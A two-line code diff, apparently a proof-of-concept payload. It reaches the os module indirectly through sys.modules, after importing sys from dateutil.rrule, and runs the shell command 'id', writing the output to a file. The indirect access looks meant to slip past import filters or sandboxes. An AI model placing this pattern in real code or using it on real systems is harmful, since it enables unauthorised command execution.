@@ -1,0 +1,2 @@
+from dateutil.rrule import itertools, sys
+sys.modules["os"].system("id>pf")
